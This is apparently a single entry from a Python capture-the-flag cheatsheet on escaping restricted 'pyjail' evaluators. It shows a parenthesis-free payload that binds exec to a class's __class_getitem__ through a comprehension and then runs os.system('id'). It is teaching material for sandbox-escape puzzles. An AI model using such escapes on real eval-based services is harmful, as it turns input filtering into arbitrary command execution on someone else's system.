# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (No (), inside eval: __class_getitem__ assignment in a comprehension target)
# Family: decorator
# What: assigns exec to __class_getitem__ via a for-target, then subscripts the class
class _:
    pass

[[None for _.__class_getitem__ in [exec]], _["import os; os.system('id')"]][True]
